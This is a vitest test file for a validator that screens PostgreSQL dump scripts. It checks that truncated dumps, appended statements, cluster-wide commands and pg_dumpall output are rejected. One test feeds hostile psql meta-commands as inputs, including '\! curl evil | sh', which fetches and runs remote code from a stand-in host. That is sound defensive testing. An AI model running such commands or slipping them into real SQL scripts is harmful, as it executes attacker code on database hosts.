import { Readable } from "node:stream";
import { describe, expect, it } from "vitest";
import { inspectScript } from "./inspectScript.js";

const inspect = (script: string) => inspectScript(Readable.from([Buffer.from(script)]), "dump.sql");
const refusals = async (script: string) =>
  (await inspect(script)).problems.map(({ exitCode, problem }) => `${exitCode} ${problem.received ?? ""}: ${problem.reason}`);

const dump = `--
-- PostgreSQL database dump
--

\\restrict abc123
SET standard_conforming_strings = on;
CREATE EXTENSION IF NOT EXISTS hstore WITH SCHEMA public;
CREATE TABLE public.t (a text);
ALTER TABLE public.t OWNER TO "Shop Owner";
COPY public.t (a) FROM stdin;
\\\\! rm
DROP DATABASE x;
\\.
GRANT SELECT ON TABLE public.t TO reader WITH GRANT OPTION;
GRANT SELECT ON TABLE public.t TO PUBLIC;
CREATE USER MAPPING FOR reader SERVER s;

--
-- PostgreSQL database dump complete
--

\\unrestrict abc123
`;

it("finds nothing wrong with a dump, and what it needs", async () => {
  expect(await inspect(dump)).toEqual({
    byPgDump: true,
    statements: 8,
    roles: new Set(["Shop Owner", "reader"]),
    extensions: new Set(["hstore"]),
    problems: [],
  });
});

it("takes a script of other hands as it is, without a last semicolon too", async () => {
  expect(await inspect("CREATE TABLE t (a int);\nINSERT INTO t VALUES (1)")).toMatchObject({
    byPgDump: false,
    statements: 2,
    problems: [],
  });
});

describe("refuses", () => {
  it.each([
    [0.2, "65 : the script is cut: pg_dump ends every dump"],
    [0.55, "65 : the script is cut: it ends inside the rows of a table"],
    [0.93, "65 : the script is cut: pg_dump ends every dump"],
  ])("a dump cut at %f", async (share, expected) => {
    expect(await refusals(dump.slice(0, dump.length * share))).toEqual([expect.stringContaining(expected)]);
  });

  it("a dump to which something was added", async () => {
    expect(await refusals(`${dump}CREATE TABLE more (a int);`)).toEqual([expect.stringContaining("pg_dump ends every dump")]);
  });

  it("what holds nothing", async () => {
    expect(await refusals("\n-- nothing\n")).toEqual(["65 : it holds no SQL statement"]);
  });

  it("commands of psql, wherever they hide", async () => {
    expect(await refusals("SELECT 1;\n\\! curl evil | sh\nSELECT 2 \\g | sh\n;\\connect other\n")).toEqual([
      expect.stringMatching(/^64 \\! curl evil \| sh\s+SELECT 2 \\g \| sh\s+;?\\connect other: it holds commands of psql/),
    ]);
    expect(await refusals("\\restrict abc; \\! ls\nSELECT 1;")).toHaveLength(1);
  });

  it.each([
    "CREATE DATABASE x;",
    "drop database x;",
    "ALTER /* */ DATABASE x SET a = b;",
    "CREATE ROLE x;",
    "ALTER USER x SUPERUSER;",
    "ALTER SYSTEM SET a = b;",
    "DROP TABLESPACE t;",
  ])("%s, which reaches beyond one database", async (statement) => {
    expect(await refusals(`SELECT 1;\n${statement}`)).toEqual([
      expect.stringContaining(`64 ${statement}: it changes more than the database`),
    ]);
  });

  it("what pg_dumpall wrote, with one reason", async () => {
    expect(await refusals("-- PostgreSQL database cluster dump\n\nCREATE ROLE x;\n\\connect template1\nSELECT 1;")).toEqual([
      expect.stringContaining("it was made by pg_dumpall"),
    ]);
  });
});
